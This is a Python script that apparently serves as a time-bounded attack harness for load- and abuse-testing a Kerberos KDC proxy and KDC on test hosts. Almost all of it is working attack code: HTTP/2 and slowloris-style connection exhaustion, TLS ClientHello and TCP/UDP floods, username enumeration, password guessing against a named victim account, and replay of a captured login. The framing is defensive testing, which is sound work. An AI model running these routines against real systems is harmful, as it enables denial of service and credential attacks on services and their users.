"""What attackers do to either end, each for a bounded time from addresses or a uid of their own: attacks.py NAME --help."""

import argparse
import asyncio
import collections
import contextlib
import os
import random
import resource
import socket
import ssl
import time

import messages
from http2 import Http2

HOST, REALM = "kdcproxy.example.test", "EXAMPLE.TEST"
USER, VICTIM = "alice", "bob"
BODY, LONGEST = 120 * 1024, 120 * 1024
WAITS = (OSError, EOFError, TimeoutError)


def believing(protocol):
    """TLS that offers one protocol and doesn't care who is there."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


class Net:
    """Whom to attack, until when, and what came of it."""

    def __init__(self, options):
        self.options, self.counts = options, collections.Counter()
        self.target = (options.target, options.port)
        self.until = time.monotonic() + options.seconds
        self.tls = {protocol: believing(protocol) for protocol in ("h2", "http/1.1")}

    def goes_on(self):
        return time.monotonic() < self.until

    async def ticks(self, rate):
        """So many a second, until the end; what is late by more than a moment is not made up for."""
        due = time.monotonic()
        while self.goes_on():
            yield
            now = time.monotonic()
            due = max(due + 1 / rate, now - 0.1)
            await asyncio.sleep(max(0.0, due - now))

    async def pause(self, seconds):
        await asyncio.sleep(min(seconds, max(0.0, self.until - time.monotonic())))

    async def connect(self, source, protocol):
        tls = self.tls[protocol]
        connecting = asyncio.open_connection(*self.target, ssl=tls, server_hostname=HOST, local_addr=(source, 0))
        reader, writer = await asyncio.wait_for(connecting, 10)
        self.counts["connections"] += 1
        return reader, writer

    async def http2(self, source, window=65535):
        return Http2(*await self.connect(source, "h2"), HOST, window)

    async def post(self, source, message):
        """One message over a connection of its own, as MIT's client sends it; nothing if there is no answer."""
        body = messages.kkdcp(REALM, message)
        with contextlib.suppress(*WAITS):
            reader, writer = await self.connect(source, "http/1.1")
            head = f"POST /KdcProxy HTTP/1.0\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n"
            writer.write(head.encode() + body)
            answer = await asyncio.wait_for(reader.read(), 15)
            writer.transport.abort()
            status, _, rest = answer.partition(b"\r\n")
            status = status.split(b" ")[1].decode() if status else "none"
            self.counts[status] += 1
            return rest if status == "200" else None
        self.counts["lost"] += 1
        return None


async def from_each(net, attack):
    await asyncio.gather(*(attack(net, source) for source in net.options.sources))


async def untaken(net, source):
    """HTTP/2 alone, nothing of an answer granted, 100 answers a connection, renewed every half minute."""
    held, renewed = [], time.monotonic()
    async for _ in net.ticks(60):
        held = [one for one in held if not one.closed]
        if time.monotonic() > renewed + 30:
            for one in held:
                one.close()
            held, renewed = [], time.monotonic()
        if len(held) < 1000:
            with contextlib.suppress(*WAITS):
                held.append(await net.http2(source, window=0))
                for _ in range(100):
                    held[-1].ask("GET", "/healthz")
        net.counts["held at most"] = max(net.counts["held at most"], len(held))


async def bodies(net, source):
    """Bodies that never end, 32 a connection, four connections."""
    async def connection():
        while net.goes_on():
            try:
                one = await net.http2(source)
                streams = [one.ask("POST", "/KdcProxy", ends=False) for _ in range(32)]
            except WAITS:
                await net.pause(0.1)
                continue
            sent = collections.Counter()
            async for _ in net.ticks(90):
                stream = random.choice(streams)
                if sent[stream] < BODY:
                    sent[stream] += one.send(stream, bytes(1024))
                if one.closed or not one.unanswered:
                    break
            net.counts["octets"] += sent.total()
            one.close()

    await asyncio.gather(*(connection() for _ in range(4)))


async def kept(net, source):
    """Connections that have asked once and stay, as many as get in."""
    held = []
    async for _ in net.ticks(60):
        held = [(reader, writer) for reader, writer in held if not reader.at_eof()]
        if len(held) < 800:
            with contextlib.suppress(*WAITS):
                reader, writer = await net.connect(source, "http/1.1")
                writer.write(f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
                held.append((reader, writer))
        net.counts["held at most"] = max(net.counts["held at most"], len(held))


async def uploads(net, source):
    """Bodies of HTTP/1.1 that stop before their end, as many as get in."""
    held = collections.deque()
    async for _ in net.ticks(60):
        with contextlib.suppress(*WAITS):
            _, writer = await net.connect(source, "http/1.1")
            head = f"POST /KdcProxy HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {BODY}\r\n\r\n"
            writer.write(head.encode() + bytes(BODY - 1))
            held.append(writer)
            net.counts["octets"] += BODY
        while len(held) > 500:
            held.popleft().transport.abort()


async def dropped(net, source):
    """24 requests a second that krb5kdc drops."""
    held = collections.deque()
    try:
        async for _ in net.ticks(1):
            while len(held) > 9 or (held and held[0].closed):
                held.popleft().close()
            with contextlib.suppress(*WAITS):
                held.append(await net.http2(source))
                for _ in range(24):
                    held[-1].ask("POST", "/KdcProxy", messages.kkdcp(REALM, messages.as_req(REALM, USER, server=False)))
                    net.counts["asked"] += 1
                    await asyncio.sleep(1 / 30)
    finally:
        for one in held:
            net.counts["unanswered at the end"] += len(one.unanswered)
            one.close()


async def guessing(net, source, make):
    """Requests one after the other, at most 50 a second, and what was learnt by them."""
    async for number in numbered(net.ticks(50)):
        answer = await net.post(source, make(number))
        if answer is not None:
            net.counts[f"code {messages.error_code(answer)}"] += 1


async def numbered(ticks):
    number = 0
    async for _ in ticks:
        yield number
        number += 1


async def names(net, source):
    """Which names exist."""
    await guessing(net, source, lambda number: messages.as_req(REALM, f"user{number}" if number % 2 else USER))


async def passwords(net, source):
    """Wrong passwords of one account."""
    await guessing(net, source, lambda _: messages.wrong_password(REALM, VICTIM))


async def logins(net, source):
    """Right logins, 100 a second, two messages each over connections of their own; all are to succeed."""
    with open(net.options.login, "rb") as file:
        before, nonce, after = file.read().partition(b"\xa7\x06\x02\x04")

    async def login():
        first = await net.post(source, messages.as_req(REALM, USER))
        asked = messages.error_code(first) if first else -1
        # What no key protects may be another each time.
        second = await net.post(source, before + nonce + b"\x40" + random.randbytes(3) + after[4:])
        right = asked == messages.PREAUTH_REQUIRED and second is not None and messages.error_code(second) == 0
        net.counts["logins"] += 1
        net.counts["failed logins"] += not right

    async with asyncio.TaskGroup() as group:
        async for _ in net.ticks(100):
            group.create_task(login())


class Plain:
    """Connections without TLS, as many as may be held; the oldest are renewed, by a reset."""

    def __init__(self, net, most):
        self.net, self.most, self.held, self.opened = net, most, collections.deque(), 0

    def open(self, octets=b""):
        sources = self.net.options.sources
        family = socket.AF_INET6 if ":" in self.net.target[0] else socket.AF_INET
        one = socket.socket(family, socket.SOCK_STREAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2 * LONGEST)
        one.setblocking(False)
        with contextlib.suppress(OSError):
            if sources:
                one.bind((sources[self.opened % len(sources)], 0))
            one.connect_ex(self.net.target)
            while octets:
                octets = octets[one.send(octets):]
        self.opened += 1
        self.held.append(one)
        if len(self.held) > self.most:
            self.held.popleft().close()
        self.net.counts["connections"] = self.opened


async def connections(net, rate, most, octets=b""):
    plain = Plain(net, most)
    async for _ in net.ticks(50):
        for _ in range(rate // 50):
            plain.open(octets)


async def silent(net):
    """6,000 connections a second that say nothing."""
    await connections(net, 6000, 8000)


async def hellos(net):
    """4,000 connections whose ClientHello says 64 KiB and goes on."""
    record = b"\x16\x03\x01\x40\x00" + b"\x01\x00\xff\xff\x03\x03" + bytes(16378)
    await connections(net, 2500, 4000, record + 4 * (b"\x16\x03\x01\x40\x00" + bytes(16384)))


async def datagrams(net, rate, make):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setblocking(False)
        async for number in numbered(net.ticks(rate)):
            with contextlib.suppress(OSError):
                client.sendto(make(number), net.target)
                net.counts["sent"] += 1
            with contextlib.suppress(OSError):
                while client.recv(65536):
                    net.counts["answered"] += 1


async def local_dropped(net):
    """200 datagrams a second that the KDC drops."""
    await datagrams(net, 200, lambda _: messages.as_req(REALM, USER, server=False))


async def local_requests(net):
    """80 AS-REQs a second."""
    await datagrams(net, 80, lambda _: messages.as_req(REALM, USER))


async def local_passwords(net):
    """Five wrong passwords a second."""
    await datagrams(net, 5, lambda _: messages.wrong_password(REALM, VICTIM))


async def local_connections(net):
    """1,200 connections that say nothing, held."""
    await connections(net, 300, 1200)


async def streams(net, many, seconds, make):
    """So many requests over connections of their own at once, for so long; nothing of an answer is taken."""
    while net.goes_on():
        plain = Plain(net, many)
        for _ in range(many):
            plain.open(messages.framed(make()))
        await net.pause(seconds)
        for one in plain.held:
            one.close()


async def local_long(net):
    """300 requests of 120 KiB that the KDC drops, whose clients are gone after a second."""
    padata = messages.pa_data(messages.ENCRYPTED_TIMESTAMP, bytes(LONGEST))
    await streams(net, 300, 1, lambda: messages.as_req(REALM, USER, padata, server=False))


async def local_replies(net):
    """100 replies of 1 MiB at once, which nobody takes."""
    await streams(net, 100, 5, lambda: messages.as_req("BIG.TEST", USER))


GATEWAY = {
    "untaken": (untaken, 3), "bodies": (bodies, 8), "uploads": (uploads, 8), "kept": (kept, 10), "dropped": (dropped, 12), "passwords": (passwords, 1),
    "names": (names, 1), "hellos": (hellos, 20), "silent": (silent, 20), "logins": (logins, 1),
}
LAPTOP = {one.__name__.removeprefix("local_"): one for one in (
    local_dropped, local_requests, local_passwords, local_connections, local_long, local_replies)}
ONE_FOR_ALL = (hellos, silent)


def parse():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("end", choices=("gateway", "laptop"))
    parser.add_argument("name")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--target", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sources", nargs="*", default=[])
    parser.add_argument("--login", help="a file with an AS-REQ with the user's right password")
    return parser.parse_args()


def main():
    options = parse()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    net = Net(options)
    if options.end == "laptop":
        attack = LAPTOP[options.name](net)
    else:
        function = GATEWAY[options.name][0]
        attack = function(net) if function in ONE_FOR_ALL else from_each(net, function)
    print("begun", flush=True)
    asyncio.run(attack)
    print(", ".join(f"{name} {count}" for name, count in sorted(net.counts.items())), flush=True)
    # Thousands of sockets are the kernel's to close.
    os._exit(0)


if __name__ == "__main__":
    main()
